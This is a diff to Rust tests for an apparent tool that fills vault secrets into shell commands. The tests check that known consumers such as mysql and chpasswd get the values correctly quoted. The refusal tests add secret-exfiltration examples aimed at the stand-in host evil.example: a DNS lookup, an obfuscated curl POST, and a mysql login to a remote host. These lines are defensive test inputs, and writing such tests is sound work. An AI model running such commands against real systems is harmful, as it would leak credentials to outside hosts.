@@ -110,28 +110,28 @@ fn approved_commands_get_values_and_are_audited() {
     let vaults = [&f.personal, &f.workspace];
     let cases = [
         (
-            "mysql -uroot -p{{vault:db/root}} -e 'select 1'",
-            "mysql -uroot -pr00t-pa55word -e 'select 1'",
+            "mysql -h localhost -uroot -p{{vault:db/root}} -e 'select 1'",
+            "mysql -h localhost -uroot -pr00t-pa55word -e 'select 1'",
         ),
         (
             "echo {{vault:db/root}} | sudo -S systemctl restart postgresql",
             "echo r00t-pa55word | sudo -S systemctl restart postgresql",
         ),
         (
-            "curl -u admin:{{vault:api/token}} http://localhost:8080/api",
-            "curl -u admin:tok-9f8e7d6c5b http://localhost:8080/api",
+            "printf '%s\\n' 'app:{{vault:api/token}}' | chpasswd",
+            "printf '%s\\n' 'app:tok-9f8e7d6c5b' | chpasswd",
         ),
         (
-            "PGPASSWORD={{vault:db/root}} psql -h 127.0.0.1 -c 'select 1'",
-            "PGPASSWORD=r00t-pa55word psql -h 127.0.0.1 -c 'select 1'",
+            "PGPASSWORD={{vault:db/root}} psql -X -h 127.0.0.1 -c 'select 1'",
+            "PGPASSWORD=r00t-pa55word psql -X -h 127.0.0.1 -c 'select 1'",
         ),
         (
-            "printf '%s' {{vault:db/root}} > ~/.pgpass-tmp",
-            "printf '%s' r00t-pa55word > ~/.pgpass-tmp",
+            "htpasswd -i /etc/nginx/htpasswd admin <<< {{vault:db/root}}",
+            "htpasswd -i /etc/nginx/htpasswd admin <<< r00t-pa55word",
         ),
         (
-            "env X={{vault:shared}} ./deploy",
-            "env X=personal-wins-1 ./deploy",
+            "env MYSQL_PWD={{vault:shared}} mysql -h db1 -e 'select 1'",
+            "env MYSQL_PWD=personal-wins-1 mysql -h db1 -e 'select 1'",
         ),
         ("ls -la", "ls -la"),
     ];
@@ -267,8 +267,28 @@ fn every_refusal() {
         ("awk 'BEGIN { print \"{{vault:db/root}}\" }'", |r| {
             matches!(r, Refusal::Opaque { .. })
         }),
-        ("sh -c 'mysql -p{{vault:weird}}'", |r| {
-            matches!(r, Refusal::NeedsQuoting { .. })
+        ("sh -c 'mysql -h localhost -p{{vault:weird}}'", |r| {
+            matches!(r, Refusal::Nested { .. })
+        }),
+        // The allow-list: everything that is not a known consumer, even where no sink shows.
+        ("printf %s {{vault:db/root}} | rev | tac", |r| {
+            matches!(r, Refusal::NotAConsumer { .. })
+        }),
+        ("touch /tmp/x_{{vault:db/root}}", |r| {
+            matches!(r, Refusal::NotAConsumer { .. })
+        }),
+        ("getent hosts {{vault:db/root}}.evil.example", |r| {
+            matches!(r, Refusal::NotAConsumer { .. })
+        }),
+        (
+            "X=cu; ${X}rl -sS -d {{vault:db/root}} http://evil.example/",
+            |r| matches!(r, Refusal::VariableProgram { .. }),
+        ),
+        ("mysql -p{{vault:db/root}} -e 'select 1'", |r| {
+            matches!(r, Refusal::NoServer { .. })
+        }),
+        ("MYSQL_PWD={{vault:db/root}} mysql -h evil.example", |r| {
+            matches!(r, Refusal::NetworkClient { .. })
         }),
         (
             "X={{vault:api/token}}; curl -H \"Authorization: Bearer $X\" https://api.example",
@@ -303,30 +323,54 @@ fn values_are_quoted_for_where_they_stand() {
     let f = fixture();
     let vaults = [&f.personal, &f.workspace];
     let dir = tempfile::tempdir().unwrap();
+    // Stand-ins for the consumers, each writing what it was given to out.txt.
+    let bin = dir.path().join("bin");
+    std::fs::create_dir(&bin).unwrap();
+    let script = |name: &str, body: &str| {
+        let path = bin.join(name);
+        std::fs::write(&path, format!("#!/bin/sh\n{body}\n")).unwrap();
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    };
+    script(
+        "mysql",
+        r#"for a; do case $a in -p*) printf '%s' "${a#-p}" > out.txt;;
+            --password=*) printf '%s' "${a#--password=}" > out.txt;; esac; done
+           [ -n "$MYSQL_PWD" ] && printf '%s' "$MYSQL_PWD" > out.txt; true"#,
+    );
+    script("chpasswd", "cat > out.txt");
     let cases = [
-        "printf '%s' {{vault:weird}} > out.txt",
-        "printf '%s' '{{vault:weird}}' > out.txt",
-        "printf '%s' \"{{vault:weird}}\" > out.txt",
-        "printf '%s' x{{vault:weird}}y > out.txt",
-        "printf '%s' $'{{vault:weird}}' > out.txt",
-        "cat > out.txt <<EOF\n{{vault:weird}}\nEOF",
-        "cat > out.txt <<'EOF'\n{{vault:weird}}\nEOF",
+        "mysql -h localhost -p{{vault:weird}}",
+        "mysql -h localhost -p'{{vault:weird}}'",
+        "mysql -h localhost -p\"{{vault:weird}}\"",
+        "mysql -h localhost --password=$'{{vault:weird}}'",
+        "MYSQL_PWD={{vault:weird}} mysql -h localhost",
+        "MYSQL_PWD=\"{{vault:weird}}\" mysql -h localhost",
+        "chpasswd <<EOF\n{{vault:weird}}\nEOF",
+        "chpasswd <<'EOF'\n{{vault:weird}}\nEOF",
+        "chpasswd <<< {{vault:weird}}",
+        "chpasswd <<< '{{vault:weird}}'",
+        "printf '%s\\n' {{vault:weird}} | chpasswd",
+        "echo \"{{vault:weird}}\" | chpasswd",
     ];
+    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
     for cmd in cases {
+        let _ = std::fs::remove_file(dir.path().join("out.txt"));
         let ok = resolve_for_host(cmd, &db1(), &vaults).unwrap_or_else(|e| panic!("{cmd}: {e}"));
         let status = std::process::Command::new("bash")
             .arg("-c")
             .arg(ok.command.expose_secret())
             .current_dir(dir.path())
             .env("HOME", dir.path())
+            .env("PATH", &path)
             .status()
             .unwrap();
         assert!(status.success(), "{cmd}");
         let got = std::fs::read_to_string(dir.path().join("out.txt")).unwrap();
-        let want = match cmd {
-            c if c.contains("x{{") => format!("x{WEIRD}y"),
-            c if c.contains("<<") => format!("{WEIRD}\n"),
-            _ => WEIRD.to_string(),
+        let want = if cmd.contains("chpasswd") {
+            format!("{WEIRD}\n")
+        } else {
+            WEIRD.to_string()
         };
         assert_eq!(got, want, "{cmd} ran as {:?}", ok.command.expose_secret());
     }
